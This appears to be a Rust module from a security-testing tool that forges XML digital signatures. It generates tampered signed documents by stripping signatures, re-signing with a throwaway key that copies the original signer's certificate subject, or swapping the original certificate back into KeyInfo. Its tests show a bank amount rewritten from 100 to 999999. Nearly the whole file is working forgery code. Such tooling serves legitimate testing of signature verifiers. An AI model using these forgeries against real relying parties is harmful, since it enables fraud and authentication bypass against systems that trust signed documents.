#![forbid(unsafe_code)]

//! Forgeries for relying parties that accept whatever signs a document.
//!
//! Unlike the candidates of [`run`](crate::run), a forgery does not verify
//! against the original signer. It is meant to be replayed against a relying
//! party to see whether it checks signatures at all, trusts any embedded
//! certificate, or trusts a certificate without checking the key that
//! signed.
//!
//! Re-signed forgeries use a throwaway P-256 key, so their bytes differ
//! from one [`Forger`] to the next.

use crate::config::AttackConfig;
use crate::mutate::{signed_target, MutationError};
use base64::Engine;
use der::Decode;
use sigwrap_core::{ns, Error};
use sigwrap_dsig::{sign, Signature};
use sigwrap_keys::{loader, Key};
use sigwrap_xml::{Document, Element, NodePath, QName, XmlNode};
use std::fmt;

/// Common name of the throwaway certificate when there is no subject to copy.
pub const DEFAULT_SUBJECT: &str = "sigwrap";

#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum Forgery {
    /// Payload rewritten, every Signature removed.
    Unsigned,
    /// Payload rewritten, every Signature re-signed with the throwaway key.
    SelfSigned,
    /// As `SelfSigned`, then the KeyInfo certificates of the attacked
    /// Signature put back to the original signer's.
    CertificateSwap,
}

impl Forgery {
    pub const ALL: [Forgery; 3] = [Forgery::Unsigned, Forgery::SelfSigned, Forgery::CertificateSwap];
}

impl fmt::Display for Forgery {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let name = match self {
            Forgery::Unsigned => "unsigned",
            Forgery::SelfSigned => "self-signed",
            Forgery::CertificateSwap => "certificate-swap",
        };
        f.write_str(name)
    }
}

/// A signing key with its certificate chain, used to re-sign forgeries.
#[derive(Debug, Clone)]
pub struct Forger {
    key: Key,
}

impl Forger {
    /// Wrap an existing private key (and the certificates loaded with it).
    pub fn from_key(key: Key) -> Result<Self, Error> {
        if !key.has_private() {
            return Err(Error::Key("forging requires a private key".into()));
        }
        Ok(Self { key })
    }

    /// A fresh P-256 key and a self-signed certificate for it. The subject
    /// is copied from `subject_of` (a DER certificate) when given.
    pub fn generate(subject_of: Option<&[u8]>) -> Result<Self, Error> {
        let key_pair = rcgen::KeyPair::generate().map_err(certificate_error)?;
        let mut params = rcgen::CertificateParams::new(Vec::<String>::new()).map_err(certificate_error)?;
        params.distinguished_name = match subject_of {
            Some(der) => copied_subject(der)?,
            None => {
                let mut dn = rcgen::DistinguishedName::new();
                dn.push(rcgen::DnType::CommonName, DEFAULT_SUBJECT);
                dn
            }
        };
        let certificate = params.self_signed(&key_pair).map_err(certificate_error)?;

        let mut key = loader::load_pem_auto(key_pair.serialize_pem().as_bytes())?;
        key.x509_chain = vec![certificate.der().to_vec()];
        tracing::debug!(cloned = subject_of.is_some(), "throwaway signing key generated");
        Ok(Self { key })
    }

    /// Leaf certificate announced in re-signed KeyInfo, if any.
    pub fn certificate(&self) -> Option<&[u8]> {
        self.key.x509_chain.first().map(Vec::as_slice)
    }

    pub fn key(&self) -> &Key {
        &self.key
    }

    /// Rewrite the payload `signature` protects, then apply `forgery`.
    pub fn forge(
        &self,
        doc: &Document,
        signature: &Signature,
        forgery: Forgery,
        config: &AttackConfig,
    ) -> Result<Document, MutationError> {
        let unforgeable = |reason: &str| MutationError::Unforgeable {
            forgery,
            reason: reason.to_owned(),
        };
        if signature.path == doc.root_path() {
            return Err(unforgeable("the signature is the document element"));
        }
        let target = signed_target(doc, signature, &config.verify)?;

        let mut out = doc.clone();
        let rewritten = out.update_element(&target.path, |el| config.payload.apply(el))?;
        if rewritten == 0 {
            return Err(unforgeable("the signed target has no text to rewrite"));
        }

        match forgery {
            Forgery::Unsigned => {
                while let Some(path) = out.find_element(ns::DSIG, ns::node::SIGNATURE) {
                    out.remove(&path)?;
                }
            }
            Forgery::SelfSigned | Forgery::CertificateSwap => {
                let original = signature
                    .key_info
                    .as_ref()
                    .and_then(|ki| ki.leaf_certificate())
                    .map(<[u8]>::to_vec);
                if forgery == Forgery::CertificateSwap && original.is_none() {
                    return Err(unforgeable("the signature names no certificate"));
                }
                let method = self.key.to_signing_key().default_algorithm();
                for path in out.find_elements(ns::DSIG, ns::node::SIGNATURE) {
                    out.update_element(&path, |el| make_template(el, method))?;
                }
                out = sign(&out, &self.key, &config.verify)?;
                if let Some(original) = original.filter(|_| forgery == Forgery::CertificateSwap) {
                    swap_certificates(&mut out, &signature.path, &original)?;
                }
            }
        }
        tracing::debug!(%forgery, signature = %signature.path, rewritten, "forged");
        Ok(out)
    }
}

fn certificate_error(e: rcgen::Error) -> Error {
    Error::Certificate(e.to_string())
}

/// The subject of `der` as an rcgen name. Attribute values that are not
/// UTF-8 strings are left out.
fn copied_subject(der: &[u8]) -> Result<rcgen::DistinguishedName, Error> {
    let cert = x509_cert::Certificate::from_der(der).map_err(|e| Error::Certificate(e.to_string()))?;
    let mut dn = rcgen::DistinguishedName::new();
    for rdn in cert.tbs_certificate.subject.0.iter() {
        for atv in rdn.0.iter() {
            let Ok(text) = std::str::from_utf8(atv.value.value()) else {
                continue;
            };
            let arcs: Vec<u64> = atv.oid.arcs().map(u64::from).collect();
            dn.push(rcgen::DnType::from_oid(&arcs), text);
        }
    }
    Ok(dn)
}

/// Turn a signed Signature back into a template for `method`: empty
/// DigestValue, SignatureValue and KeyInfo.
fn make_template(sig: &mut Element, method: &str) {
    let prefix = sig.name.prefix.clone();
    for child in sig.children.iter_mut().filter_map(XmlNode::as_element_mut) {
        if child.name.is(ns::DSIG, ns::node::SIGNED_INFO) {
            for part in child.children.iter_mut().filter_map(XmlNode::as_element_mut) {
                if part.name.is(ns::DSIG, ns::node::SIGNATURE_METHOD) {
                    part.set_attribute(ns::attr::ALGORITHM, method);
                    part.children.clear();
                } else if part.name.is(ns::DSIG, ns::node::REFERENCE) {
                    for value in part.children.iter_mut().filter_map(XmlNode::as_element_mut) {
                        if value.name.is(ns::DSIG, ns::node::DIGEST_VALUE) {
                            value.children.clear();
                        }
                    }
                }
            }
        } else if child.name.is(ns::DSIG, ns::node::SIGNATURE_VALUE)
            || child.name.is(ns::DSIG, ns::node::KEY_INFO)
        {
            child.children.clear();
        }
    }
    if sig.find_child(ns::DSIG, ns::node::KEY_INFO).is_none() {
        let at = sig
            .position_of_child(ns::DSIG, ns::node::SIGNATURE_VALUE)
            .map_or(sig.children.len(), |i| i + 1);
        let key_info = Element::new(QName::prefixed(prefix.as_deref(), ns::node::KEY_INFO));
        sig.children.insert(at, XmlNode::Element(key_info));
    }
}

fn swap_certificates(doc: &mut Document, signature: &NodePath, original: &[u8]) -> Result<(), Error> {
    let encoded = base64::engine::general_purpose::STANDARD.encode(original);
    let swapped = doc.update_element(signature, |sig| {
        let mut count = 0;
        for key_info in sig
            .children
            .iter_mut()
            .filter_map(XmlNode::as_element_mut)
            .filter(|e| e.name.is(ns::DSIG, ns::node::KEY_INFO))
        {
            for data in key_info
                .children
                .iter_mut()
                .filter_map(XmlNode::as_element_mut)
                .filter(|e| e.name.is(ns::DSIG, ns::node::X509_DATA))
            {
                for cert in data
                    .children
                    .iter_mut()
                    .filter_map(XmlNode::as_element_mut)
                    .filter(|e| e.name.is(ns::DSIG, ns::node::X509_CERTIFICATE))
                {
                    cert.set_text(&encoded);
                    count += 1;
                }
            }
        }
        count
    })?;
    if swapped == 0 {
        return Err(Error::MissingElement(ns::node::X509_CERTIFICATE.into()));
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::payload::PayloadRewrite;
    use crate::testutil;
    use sigwrap_dsig::{extract, verify_document, VerifyContext};
    use sigwrap_keys::TrustAnchors;

    fn config() -> AttackConfig {
        AttackConfig::new(testutil::trusting_context())
            .with_payload(PayloadRewrite::new().with_rule("Amount", "999999"))
    }

    fn amount(doc: &Document) -> String {
        let path = doc.find_element(testutil::BANK, "Amount").unwrap();
        doc.element(&path).unwrap().text()
    }

    fn signed_with(doc: &Document) -> (Signature, Vec<u8>) {
        let sig = extract(doc).signatures.remove(0);
        let leaf = sig.key_info.as_ref().unwrap().leaf_certificate().unwrap().to_vec();
        (sig, leaf)
    }

    #[test]
    fn test_unsigned() {
        let doc = testutil::enveloped_body();
        let (sig, _) = signed_with(&doc);
        let forger = Forger::generate(None).unwrap();
        let out = forger.forge(&doc, &sig, Forgery::Unsigned, &config()).unwrap();
        assert_eq!(amount(&out), "999999");
        assert!(out.find_element(ns::DSIG, ns::node::SIGNATURE).is_none());
        assert_eq!(verify_document(&out, &config().verify).signature_count(), 0);
        assert_eq!(amount(&doc), "100");
    }

    #[test]
    fn test_self_signed_copies_subject() {
        let config = config();
        for doc in [testutil::enveloped_body(), testutil::detached_body()] {
            let (sig, leaf) = signed_with(&doc);
            let forger = Forger::generate(Some(&leaf)).unwrap();
            let out = forger.forge(&doc, &sig, Forgery::SelfSigned, &config).unwrap();
            assert_eq!(amount(&out), "999999");

            // Sound signature, untrusted signer.
            let verdict = verify_document(&out, &config.verify);
            assert!(!verdict.is_valid());
            assert!(verdict.verdicts.iter().all(|v| v.is_cryptographically_valid()));
            let open = verify_document(&out, &VerifyContext::default());
            assert!(open.verdicts.iter().all(|v| v.is_cryptographically_valid()));

            // A relying party that pins the throwaway key accepts it.
            let mut anchors = TrustAnchors::new();
            anchors.add_pinned_key(forger.key().to_signing_key().to_public());
            let pinned = VerifyContext::default().with_trust_anchors(anchors);
            assert!(verify_document(&out, &pinned).is_valid());

            let subject = |der: &[u8]| x509_cert::Certificate::from_der(der).unwrap().tbs_certificate.subject;
            assert_eq!(subject(forger.certificate().unwrap()), subject(&leaf));
        }
    }

    #[test]
    fn test_certificate_swap() {
        let doc = testutil::enveloped_body();
        let (sig, leaf) = signed_with(&doc);
        let forger = Forger::generate(Some(&leaf)).unwrap();
        let out = forger.forge(&doc, &sig, Forgery::CertificateSwap, &config()).unwrap();
        let (forged_sig, announced) = signed_with(&out);
        assert_eq!(announced, leaf);
        assert_ne!(forged_sig.signature_value, sig.signature_value);
        let verdict = verify_document(&out, &config().verify);
        assert!(!verdict.verdicts[0].is_cryptographically_valid());
    }

    #[test]
    fn test_missing_key_info() {
        let doc = testutil::enveloped_body();
        let mut bare = doc.clone();
        let key_info = bare.find_element(ns::DSIG, ns::node::KEY_INFO).unwrap();
        bare.remove(&key_info).unwrap();
        let sig = extract(&bare).signatures.remove(0);
        let forger = Forger::generate(None).unwrap();

        let err = forger.forge(&bare, &sig, Forgery::CertificateSwap, &config()).unwrap_err();
        assert!(matches!(err, MutationError::Unforgeable { .. }));

        // Re-signing announces the throwaway key instead.
        let out = forger.forge(&bare, &sig, Forgery::SelfSigned, &config()).unwrap();
        let (_, announced) = signed_with(&out);
        assert_eq!(announced, forger.certificate().unwrap());
    }

    #[test]
    fn test_forger_needs_private_key() {
        let forger = Forger::generate(None).unwrap();
        let public = Key::new(sigwrap_keys::KeyData::from(forger.key().to_signing_key().to_public()));
        assert!(matches!(Forger::from_key(public), Err(Error::Key(_))));
        assert!(Forger::from_key(forger.key().clone()).is_ok());
    }
}
